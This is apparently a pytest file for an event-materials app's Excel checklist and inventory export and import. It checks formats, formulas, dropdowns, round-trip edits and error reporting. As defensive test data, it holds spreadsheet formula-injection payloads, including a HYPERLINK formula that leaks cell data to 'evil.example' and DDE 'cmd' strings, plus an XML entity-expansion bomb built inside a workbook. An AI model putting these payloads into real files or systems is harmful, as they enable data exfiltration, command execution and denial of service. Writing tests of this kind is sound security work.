"""Checklist and inventory workbooks read back with openpyxl; edited copies read back in."""

from __future__ import annotations

from datetime import date, datetime

import openpyxl
import pytest

from exports.checklist_import import plan_checklist_import, read_supplier_list
from exports.checklists import export_checklists, export_inventory
from exports.xlsx_read import UnreadableWorkbook
from models.materials import checklists, library
from models.materials.checklist_apply import apply_edits
from models.store.operations import recorded, run
from tests.models.checklist_fixtures import TODAY, shop  # noqa: F401

PAYLOADS = ['=HYPERLINK("http://evil.example/?q="&A1,"点我")', "+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0"]


@pytest.fixture
def filled(shop):  # noqa: F811
    ws, ids = shop
    base = library.item_from_material(ws.conn, ids["stand"])
    made, _ = checklists.add_items(ws.conn, ids["salon_list"], [
        {"name": "易拉宝", "category": "宣传物料", "spec": "80×200cm", "quantity": 2,
         "unit": "个", "unit_price": 9050, "supplier": "快印店", "owner": "小王",
         "due_on": "2026-11-30", "status": "已下单"},
        {"name": "茶歇", "category": "餐饮", "quantity": 45, "unit_price": 2500,
         "due_on": "2026-11-20"},  # no unit, no owner: incomplete; overdue
        {**base, "quantity": 3, "owner": "阿杰", "due_on": "2026-12-01"},
        *({"name": p, "notes": p, "spec": p, "owner": "小李", "quantity": 1, "unit": "个",
           "due_on": "2026-12-02"} for p in PAYLOADS),
    ])
    return ws, ids, made


def test_checklist_workbook_types_dropdowns_and_formulas(filled, tmp_path):
    ws, ids, made = filled
    path = tmp_path / "物料.xlsx"
    summary = export_checklists(ws.conn, path, TODAY, ids=[ids["salon_list"],
                                                           ids["fair_list"]])
    assert (summary.checklists, summary.items) == (2, 7)
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames[:3] == ["汇总", f"{ids['salon_list']} 沙龙物料",
                                 f"{ids['fair_list']} 市集物料"]
    top = wb["汇总"]
    assert [c.value for c in top[1]] == ["清单ID", "活动", "活动日期", "清单", "物料项数",
                                         "不完整", "逾期", "金额", "工作表"]
    assert top["B2"].value == "十二月读书沙龙" and top["C2"].value == datetime(2026, 12, 5)
    assert (top["E2"].value, top["F2"].value, top["G2"].value) == (7, 1, 1)
    assert top["H2"].value == pytest.approx((2 * 9050 + 45 * 2500 + 3 * 4500) / 100)
    assert top["H2"].number_format == '"¥"#,##0.00'
    assert top["I2"].value == f"{ids['salon_list']} 沙龙物料"

    sheet = wb[f"{ids['salon_list']} 沙龙物料"]
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:N8"
    assert sheet["A2"].value == made[0] and sheet["B2"].value == "易拉宝"
    assert sheet["E2"].value == 2 and sheet["E2"].data_type == "n"
    assert sheet["G2"].value == 90.5 and sheet["G2"].number_format == '"¥"#,##0.00'
    assert sheet["K2"].value == datetime(2026, 11, 30) and sheet["K2"].is_date
    assert sheet["H2"].value.startswith("=IF(AND(ISNUMBER(E2),ISNUMBER(G2)),E2*G2")
    formulas = sorted(c.coordinate for row in sheet.iter_rows() for c in row
                      if c.data_type == "f")
    assert formulas == sorted([f"H{r}" for r in range(2, 9)] + ["E9", "H9"])
    assert sheet["H9"].value == "=SUBTOTAL(109,H2:H8)"
    for row in range(5, 9):  # the payloads: text in name, spec and notes
        for col in "BDN":
            assert sheet[f"{col}{row}"].data_type == "s"
            assert sheet[f"{col}{row}"].value in PAYLOADS

    lists = {str(v.sqref): v for v in sheet.data_validations.dataValidation}
    assert lists["C2:C8"].formula1 == '"宣传物料,礼品,设备,文具,餐饮,场地,其他"'
    assert lists["L2:L8"].formula1 == '"待准备,已下单,已到货,已打包,已使用,已归还"'
    assert all(v.showErrorMessage and v.errorStyle == "stop" for v in lists.values())
    rules = {str(r.sqref): [x.formula[0] for x in rs]
             for r, rs in sheet.conditional_formatting._cf_rules.items()}
    assert rules["A2:N8"] == ['OR($E2="",$F2="",$J2="",$K2="")']
    assert "TODAY()" in rules["K2:K8"][0]


def test_inventory_workbook_on_hand_reserved_available(filled, tmp_path):
    ws, ids, _ = filled
    path = tmp_path / "库存.xlsx"
    export_inventory(ws.conn, path, TODAY)
    sheet = openpyxl.load_workbook(path)["物料库存"]
    assert [c.value for c in sheet[1]][:11] == ["ID", "名称", "类别", "规格", "单位", "单价",
                                               "供应商", "库存", "预留", "可用", "涉及活动"]
    assert (sheet["B2"].value, sheet["H2"].value, sheet["I2"].value) == ("展架", 3, 3)
    assert sheet["J2"].value == "=H2-I2" and sheet["K2"].value == 1


def edit_and_save(path, edit):
    wb = openpyxl.load_workbook(path)
    edit(wb)
    wb.save(path)


def test_round_trip_updates_exactly_what_changed(filled, tmp_path):
    ws, ids, made = filled
    path = tmp_path / "edited.xlsx"
    export_checklists(ws.conn, path, TODAY, ids=[ids["salon_list"]])
    before = {i.id: i for i in checklists.list_items(ws.conn, ids["salon_list"], TODAY)}

    def edit(wb):
        sheet = wb[f"{ids['salon_list']} 沙龙物料"]
        sheet["L2"] = "已到货"  # status of 易拉宝
        sheet["E3"] = 50  # quantity of 茶歇
        sheet.insert_rows(9)  # a new row above the totals
        sheet["B9"], sheet["E9"], sheet["F9"], sheet["G9"] = "矿泉水", 2, "箱", 36
        sheet["K9"], sheet["C9"] = datetime(2026, 12, 3), "餐饮"
    edit_and_save(path, edit)

    plan = plan_checklist_import(ws.conn, path, TODAY)
    assert plan.problems == []
    (sheet,) = plan.sheets
    assert [(c.item_id, c.field, c.old, c.new) for c in sheet.changes] == [
        (made[0], "status", "已下单", "已到货"), (made[1], "quantity", 45, 50)]
    assert sheet.new_rows == [{"name": "矿泉水", "category": "餐饮", "quantity": 2,
                               "unit": "箱", "unit_price": 3600, "due_on": "2026-12-03",
                               "status": "待准备"}]
    done = run(ws.conn, recorded(lambda conn: apply_edits(conn, plan.edits())))
    change = done.change
    assert change.touches("checklist_items")
    after = {i.id: i for i in checklists.list_items(ws.conn, ids["salon_list"], TODAY)}
    assert after[made[0]].status == "已到货" and after[made[1]].quantity == 50
    untouched = set(before) - {made[0], made[1]}
    assert all(after[i] == before[i] for i in untouched)
    (new_id,) = set(after) - set(before)
    assert after[new_id].unit_price == 3600
    run(ws.conn, done.undo)
    assert {i.id: i for i in checklists.list_items(ws.conn, ids["salon_list"], TODAY)} \
        == before


def test_bad_values_are_reported_by_row_and_column_and_nothing_written(filled, tmp_path):
    ws, ids, made = filled
    path = tmp_path / "bad.xlsx"
    export_checklists(ws.conn, path, TODAY, ids=[ids["salon_list"]])

    def edit(wb):
        sheet = wb[f"{ids['salon_list']} 沙龙物料"]
        sheet["L2"] = "丢了"
        sheet["E3"] = -4
        sheet["K4"] = "下周"
        sheet["A5"] = 99999
    edit_and_save(path, edit)
    plan = plan_checklist_import(ws.conn, path, TODAY)
    assert [str(p).split(" (sheet")[0] for p in plan.problems] == [
        "row 2, column 状态: '丢了' is not one of "
        "待准备 / 已下单 / 已到货 / 已打包 / 已使用 / 已归还",
        "row 3, column 数量: cannot be negative",
        "row 4, column 截止日期: '下周' is not a date like 2026-12-05",
        "row 5, column ID: no item 99999 in checklist '沙龙物料'"]
    with pytest.raises(ValueError):
        plan.edits()


def test_supplier_list_reads_name_spec_quantity_price(tmp_path):
    path = tmp_path / "报价单.xlsx"
    wb = openpyxl.Workbook()
    sheet = wb.active
    sheet.append(["某某广告 报价单"])
    sheet.append([])
    sheet.append(["序号", "品名", "规格型号", "数量", "单位", "单价（元）", "金额"])
    sheet.append([1, "易拉宝", "80×200", 2, "个", 90.5, "=D4*F4"])
    sheet.append([2, "=cmd", None, "三", "个", "¥12.30", None])
    sheet.append([None, "合计", None, None, None, None, 193.6])
    wb.save(path)
    found = read_supplier_list(path, supplier="某某广告")
    assert found.rows[0] == {"name": "易拉宝", "spec": "80×200", "quantity": 2, "unit": "个",
                             "unit_price": 9050, "supplier": "某某广告"}
    assert found.rows[1]["name"] == "=cmd" and found.rows[1]["unit_price"] == 1230
    assert [str(p).split(" (sheet")[0] for p in found.problems] == [
        "row 5, column 数量: '三' is not a whole number"]


def test_not_a_workbook_is_refused(tmp_path):
    path = tmp_path / "x.xlsx"
    path.write_text("<?xml version='1.0'?><!DOCTYPE lolz [<!ENTITY lol 'lol'>]><a>&lol;</a>")
    with pytest.raises(UnreadableWorkbook):
        read_supplier_list(path)


def test_xml_bomb_inside_a_workbook_is_refused(tmp_path):
    import zipfile

    good = tmp_path / "good.xlsx"
    openpyxl.Workbook().save(good)
    bomb = tmp_path / "bomb.xlsx"
    entity = ("<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a 'aaaaaaaaaa'>"
              "<!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;'>]>")
    with zipfile.ZipFile(good) as src, zipfile.ZipFile(bomb, "w") as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "xl/workbook.xml":
                body = data.split(b"?>", 1)[1] if data.startswith(b"<?xml") else data
                data = entity.encode() + body
            dst.writestr(info, data)
    with pytest.raises(UnreadableWorkbook):
        read_supplier_list(bomb)


def test_date_range_picks_checklists_by_event_day(filled, tmp_path):
    ws, ids, _ = filled
    path = tmp_path / "dec.xlsx"
    summary = export_checklists(ws.conn, path, TODAY, since=date(2026, 12, 10),
                                until=date(2026, 12, 31))
    assert summary.checklists == 1
    assert openpyxl.load_workbook(path, read_only=True).sheetnames[:2] == [
        "汇总", f"{ids['fair_list']} 市集物料"]
